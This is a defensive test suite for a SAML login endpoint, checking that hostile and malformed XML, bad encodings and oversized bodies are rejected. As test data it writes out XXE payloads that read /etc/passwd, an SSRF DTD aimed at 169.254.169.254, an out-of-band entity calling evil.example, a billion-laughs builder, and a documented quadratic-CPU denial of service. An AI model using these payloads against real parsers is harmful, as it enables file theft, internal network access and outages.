/**
 * Hostile and broken input at the ACS: DOCTYPE / XXE / entity expansion (OWASP XXE, "billion laughs"
 * CVE-2003-1564 class), malformed XML, wrong encodings, wrong message types, oversized bodies and
 * documents built to burn CPU. Every case is a 4xx with its own code, fast, and never a session.
 */
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { deflateRawSync, gzipSync } from 'node:zlib';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ErrorCode } from '../../src/errors.js';
import { cookiesFrom, createAccountWithIdp, me, postAcs, startSp, type TestSp } from '../support/harness.js';
import { mintResponseXml } from '../support/idp.js';
import { b64, edit, expectLoggedIn, expectRejected, mintXmlFor, NS, one, signEnveloped } from './support.js';
import { idpKey } from '../support/idp.js';

/**
 * POSTs `size` bytes of form body straight over a socket (supertest would URL-encode megabytes first):
 * with a Content-Length, or chunked without one. Resolves with the status and body of the answer.
 */
async function rawPost(
  t: TestSp,
  size: number,
  opts: { chunked?: boolean } = {},
): Promise<{ status: number; body: string }> {
  const server = t.app.listen(0, '127.0.0.1');
  await new Promise((r) => server.once('listening', r));
  const { port } = server.address() as AddressInfo;
  const payload = Buffer.alloc(size, 'A');
  payload.write('SAMLResponse=');
  try {
    return await new Promise((resolve, reject) => {
      const req = httpRequest(
        {
          host: '127.0.0.1',
          port,
          path: t.urls('acme').acsPath,
          method: 'POST',
          headers: {
            'Content-Type': 'application/x-www-form-urlencoded',
            Accept: 'application/json',
            ...(opts.chunked ? {} : { 'Content-Length': String(size) }),
          },
        },
        (res) => {
          let body = '';
          res.on('data', (c: Buffer) => (body += c.toString()));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
        },
      );
      // The server may answer and close before everything is written: that is the point.
      req.on('error', (err: NodeJS.ErrnoException) =>
        err.code === 'EPIPE' || err.code === 'ECONNRESET' ? undefined : reject(err),
      );
      const CHUNK = 64 * 1024;
      let offset = 0;
      const pump = (): void => {
        while (offset < size) {
          const piece = payload.subarray(offset, offset + CHUNK);
          offset += piece.length;
          if (!req.write(piece)) {
            req.once('drain', pump);
            return;
          }
        }
        req.end();
      };
      pump();
    });
  } finally {
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
  }
}

describe('malformed and hostile input', () => {
  let t: TestSp;
  let signed: string;
  beforeAll(async () => {
    t = await startSp({ rateLimitAcsPerMinute: 1_000_000 });
    await createAccountWithIdp(t, 'acme');
  });
  afterAll(async () => {
    await t.close();
  });
  const fresh = () => (signed = mintXmlFor(t, 'acme'));

  describe('DOCTYPE, XXE and entity expansion', () => {
    const cases: Array<{ name: string; build: (xml: string) => string }> = [
      {
        name: 'external entity reading /etc/passwd into the NameID (XXE)',
        build: (xml) =>
          `<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
          xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&xxe;'),
      },
      {
        name: 'external DTD fetched over HTTP (SSRF)',
        build: (xml) => `<!DOCTYPE samlp:Response SYSTEM "http://169.254.169.254/latest/meta-data/">${xml}`,
      },
      {
        name: 'parameter entities (out-of-band XXE)',
        build: (xml) =>
          `<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>${xml}`,
      },
      {
        name: 'billion laughs (exponential entity expansion)',
        build: (xml) => {
          const levels = Array.from(
            { length: 9 },
            (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
          ).join('');
          return (
            `<!DOCTYPE samlp:Response [<!ENTITY l0 "lol">${levels}]>` +
            xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&l9;')
          );
        },
      },
      { name: 'a lower-case <!doctype>', build: (xml) => `<!doctype samlp:Response>${xml}` },
      {
        name: 'an ENTITY declaration without DOCTYPE keyword in front',
        build: (xml) => xml.replace('<samlp:Status>', '<!ENTITY x "y"><samlp:Status>'),
      },
    ];
    for (const { build, name } of cases) {
      it(`${name} → SAML_DOCTYPE_FORBIDDEN, fast`, async () => {
        const started = performance.now();
        const res = await postAcs(t, 'acme', b64(build(fresh())));
        expect(performance.now() - started).toBeLessThan(1000);
        await expectRejected(t, res, 'SAML_DOCTYPE_FORBIDDEN');
        expect(JSON.stringify(res.body)).not.toContain('root:');
      });
    }
  });

  describe('malformed XML', () => {
    const cases: Array<{ name: string; build: (xml: string) => string }> = [
      { name: 'truncated in the middle', build: (xml) => xml.slice(0, Math.floor(xml.length / 2)) },
      { name: 'mismatched end tag', build: (xml) => xml.replace('</samlp:Status>', '</samlp:Statuz>') },
      { name: 'a second root element', build: (xml) => `${xml}<samlp:Response/>` },
      { name: 'text after the root element', build: (xml) => `${xml}trailing` },
      { name: 'an unquoted attribute value', build: (xml) => xml.replace('Version="2.0"', 'Version=2.0') },
      {
        name: 'a duplicated attribute',
        build: (xml) => xml.replace('Version="2.0"', 'Version="2.0" Version="2.0"'),
      },
      {
        name: 'an undeclared namespace prefix',
        build: (xml) =>
          xml.replace('<samlp:Status>', '<evil:Status>').replace('</samlp:Status>', '</evil:Status>'),
      },
      { name: 'a NUL byte in a tag', build: (xml) => xml.replace('<samlp:Status>', '<samlp:Sta\u0000tus>') },
      { name: 'a byte-order mark before the root element', build: (xml) => `\uFEFF${xml}` },
    ];
    for (const { build, name } of cases) {
      it(`${name} → SAML_RESPONSE_MALFORMED`, async () => {
        await expectRejected(t, await postAcs(t, 'acme', b64(build(fresh()))), 'SAML_RESPONSE_MALFORMED');
      });
    }
  });

  describe('transport encoding of the SAMLResponse field', () => {
    const cases: Array<{ name: string; field: () => string | undefined; code: ErrorCode }> = [
      { name: 'field missing', field: () => undefined, code: 'SAML_RESPONSE_MISSING' },
      { name: 'empty', field: () => '', code: 'SAML_RESPONSE_MISSING' },
      { name: 'whitespace only', field: () => ' \r\n\t ', code: 'SAML_RESPONSE_MISSING' },
      { name: 'raw XML, not base64', field: () => fresh(), code: 'SAML_RESPONSE_MALFORMED' },
      { name: 'not base64 at all', field: () => '%%%not-base64!!!', code: 'SAML_RESPONSE_MALFORMED' },
      {
        name: 'base64url alphabet (- and _)',
        field: () => b64(fresh()).replace(/\+/g, '-').replace(/\//g, '_') + '-_',
        code: 'SAML_RESPONSE_MALFORMED',
      },
      {
        name: 'base64 with a character cut off',
        field: () => b64(fresh()).slice(0, -1),
        code: 'SAML_RESPONSE_MALFORMED',
      },
      {
        // A decoder that reads on past padding would join the two halves into the whole response.
        name: 'two base64 strings run together (padding inside)',
        field: () => {
          const xml = fresh();
          const cut = xml.length % 3 === 1 ? 1000 : 1001;
          return b64(xml.slice(0, cut)) + b64(xml.slice(cut));
        },
        code: 'SAML_RESPONSE_MALFORMED',
      },
      {
        name: 'non-zero padding bits (not the canonical encoding)',
        field: () => {
          // 3n+1 bytes end in "X==": X's low four bits are padding; set one.
          let xml = fresh();
          while (Buffer.byteLength(xml) % 3 !== 1) xml += ' ';
          const field = b64(xml);
          const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
          const last = alphabet.indexOf(field.at(-3)!);
          return `${field.slice(0, -3)}${alphabet[last | 1]}==`;
        },
        code: 'SAML_RESPONSE_MALFORMED',
      },
      {
        name: 'deflated (HTTP-Redirect encoding) instead of plain',
        field: () => deflateRawSync(Buffer.from(fresh())).toString('base64'),
        code: 'SAML_RESPONSE_MALFORMED',
      },
      {
        name: 'gzip-compressed',
        field: () => gzipSync(Buffer.from(fresh())).toString('base64'),
        code: 'SAML_RESPONSE_MALFORMED',
      },
      {
        name: 'UTF-16 encoded',
        field: () => Buffer.from(fresh(), 'utf16le').toString('base64'),
        code: 'SAML_RESPONSE_MALFORMED',
      },
      {
        name: 'invalid UTF-8 bytes in a text node',
        field: () => {
          const xml = Buffer.from(fresh());
          const at = xml.indexOf('</saml:Issuer>');
          return Buffer.concat([xml.subarray(0, at), Buffer.from([0xc3, 0x28]), xml.subarray(at)]).toString(
            'base64',
          );
        },
        code: 'SAML_RESPONSE_MALFORMED',
      },
      {
        name: 'random binary',
        field: () =>
          Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 73 + 11) % 256)).toString('base64'),
        code: 'SAML_RESPONSE_MALFORMED',
      },
    ];
    for (const { field, code, name } of cases) {
      it(`${name} → ${code}`, async () => {
        await expectRejected(t, await postAcs(t, 'acme', field()), code);
      });
    }

    it('base64 wrapped in 76-character lines (MIME) and indented signs in', async () => {
      const wrapped = b64(fresh())
        .match(/.{1,76}/g)!
        .join('\r\n  ');
      await expectLoggedIn(t, await postAcs(t, 'acme', `\n${wrapped}\n`));
    });

    it('the field sent twice (SAMLResponse=a&SAMLResponse=b) → SAML_RESPONSE_MISSING', async () => {
      const one64 = b64(fresh());
      const res = await request(t.app)
        .post(t.urls('acme').acsPath)
        .set('Accept', 'application/json')
        .type('form')
        .send(`SAMLResponse=${encodeURIComponent(one64)}&SAMLResponse=${encodeURIComponent(one64)}`);
      await expectRejected(t, res, 'SAML_RESPONSE_MISSING');
    });

    it('a JSON body instead of a form → SAML_RESPONSE_MISSING', async () => {
      const res = await request(t.app)
        .post(t.urls('acme').acsPath)
        .set('Accept', 'application/json')
        .send({ SAMLResponse: b64(fresh()) });
      await expectRejected(t, res, 'SAML_RESPONSE_MISSING');
    });
  });

  describe('not a SAML 2.0 Response', () => {
    const cases: Array<{ name: string; build: () => string }> = [
      {
        name: 'a bare signed Assertion without Response',
        build: () => /<saml:Assertion [\s\S]*<\/saml:Assertion>/.exec(fresh())![0],
      },
      {
        name: 'an AuthnRequest',
        build: () =>
          `<samlp:AuthnRequest xmlns:samlp="${NS.protocol}" ID="_x" Version="2.0" IssueInstant="${new Date().toISOString()}"/>`,
      },
      {
        name: 'a signed LogoutResponse',
        build: () =>
          fresh()
            .replace('<samlp:Response ', '<samlp:LogoutResponse ')
            .replace('</samlp:Response>', '</samlp:LogoutResponse>'),
      },
      {
        name: 'a Response in the SAML 1.x protocol namespace',
        build: () =>
          fresh().replace(
            `xmlns:samlp="${NS.protocol}"`,
            'xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol"',
          ),
      },
    ];
    for (const { build, name } of cases) {
      it(`${name} → SAML_NOT_A_RESPONSE`, async () => {
        await expectRejected(t, await postAcs(t, 'acme', b64(build())), 'SAML_NOT_A_RESPONSE');
      });
    }

    it('a Response without Status → SAML_STATUS_NOT_SUCCESS', async () => {
      const xml = edit(fresh(), (doc) => {
        const status = one(doc, NS.protocol, 'Status');
        status.parentNode!.removeChild(status);
      });
      await expectRejected(t, await postAcs(t, 'acme', b64(xml)), 'SAML_STATUS_NOT_SUCCESS');
    });

    it('a signed Response without any assertion → SAML_ASSERTION_COUNT', async () => {
      const unsigned = edit(mintXmlFor(t, 'acme', { sign: 'none' }), (doc) => {
        const a = one(doc, NS.assertion, 'Assertion');
        a.parentNode!.removeChild(a);
      });
      const res = await postAcs(t, 'acme', b64(signEnveloped(unsigned, 'response', idpKey)));
      await expectRejected(t, res, 'SAML_ASSERTION_COUNT');
    });
  });

  describe('XML declarations (legitimate IdP output)', () => {
    // BUG (src/saml/xml.ts scanDocument + @xmldom/xmldom 0.9): the parser reports the XML declaration
    // as a processing instruction named "xml", so every response that starts with
    // <?xml version="1.0" encoding="UTF-8"?> (Okta, ADFS, Entra ID, Keycloak, Shibboleth…) is refused
    // as SAML_XML_COMMENT_FORBIDDEN.
    it('a response starting with <?xml version="1.0" encoding="UTF-8"?> logs in', async () => {
      const xml = `<?xml version="1.0" encoding="UTF-8"?>\n${fresh()}`;
      await expectLoggedIn(t, await postAcs(t, 'acme', b64(xml)));
    });

    it('a processing instruction that is not the declaration is still refused → SAML_XML_COMMENT_FORBIDDEN', async () => {
      const xml = `<?xml-stylesheet href="x.xsl"?>${fresh()}`;
      await expectRejected(t, await postAcs(t, 'acme', b64(xml)), 'SAML_XML_COMMENT_FORBIDDEN');
    });
  });

  describe('size and CPU', () => {
    const FIVE_MB = 5 * 1024 * 1024;

    it('a body of 5 MB → 413 PAYLOAD_TOO_LARGE, early', async () => {
      const started = performance.now();
      const res = await postAcs(t, 'acme', 'A'.repeat(FIVE_MB));
      expect(performance.now() - started).toBeLessThan(2000);
      await expectRejected(t, res, 'PAYLOAD_TOO_LARGE');
    });

    it('a chunked 5 MB body without Content-Length → 413 PAYLOAD_TOO_LARGE', async () => {
      const res = await rawPost(t, FIVE_MB, { chunked: true });
      expect(res.status).toBe(413);
      expect(JSON.parse(res.body).error.code).toBe('PAYLOAD_TOO_LARGE');
    });

    it('memory stays flat over 40 posts of 5 MB', { timeout: 60_000 }, async () => {
      for (let i = 0; i < 5; i++) expect((await rawPost(t, FIVE_MB)).status).toBe(413);
      global.gc?.();
      const before = process.memoryUsage().rss;
      for (let i = 0; i < 40; i++) expect((await rawPost(t, FIVE_MB)).status).toBe(413);
      global.gc?.();
      const growthMb = (process.memoryUsage().rss - before) / 1024 / 1024;
      // 200 MB went through; what stays must be small (rejected bodies are not buffered).
      expect(growthMb).toBeLessThan(64);
    });

    // BUG (node-saml 5.1.0 / xml-crypto 6.3.2 via xpath 0.0.34): every `//*[…]` lookup is quadratic in
    // the number of elements, and the unsigned envelope may hold any number of them. A ~220 KB body
    // (under the 256 KiB limit) of 40,000 empty elements keeps the event loop busy for minutes (158 s
    // measured), with no key and no session needed. 6,000 elements take several seconds today; a
    // normal response takes milliseconds. Nothing bounds element count or depth before node-saml runs.
    for (const { inject, name } of [
      { name: '6,000 empty sibling elements in the unsigned envelope', inject: '<x/>'.repeat(6000) },
      {
        name: '25,000 nested elements in the unsigned envelope',
        inject: `${'<x>'.repeat(25000)}${'</x>'.repeat(25000)}`,
      },
    ]) {
      it(`${name}: answered within 1 s, never 5xx`, async () => {
        const xml = fresh().replace('<samlp:Status>', `${inject}<samlp:Status>`);
        expect(b64(xml).length).toBeLessThan(256 * 1024);
        const started = performance.now();
        const res = await postAcs(t, 'acme', b64(xml));
        const elapsed = performance.now() - started;
        expect(res.status).toBeLessThan(500);
        if (res.status !== 303) await me(t, cookiesFrom(res)).expect(401);
        expect(elapsed).toBeLessThan(1000);
      });
    }
  });

  it('sanity: the unmodified response of this suite logs in', async () => {
    const xml = mintResponseXml({ acsUrl: t.urls('acme').acsUrl, audience: t.urls('acme').audience });
    await expectLoggedIn(t, await postAcs(t, 'acme', b64(xml)));
    void signed;
  });
});
